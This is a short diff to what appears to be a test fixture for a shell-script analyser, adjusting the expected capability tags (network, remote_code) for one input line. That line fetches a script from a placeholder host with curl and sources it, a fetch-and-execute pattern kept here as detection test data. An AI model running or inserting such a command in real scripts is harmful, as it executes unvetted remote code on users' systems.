@@ -1,2 +1,2 @@
-# expect: ?dynamic_code@2 network@2 remote_code@2 side_effect=unknown
+# expect: network@2 remote_code@2 side_effect=unknown
 source /dev/stdin <<< "$(curl -s http://x.example/s)"
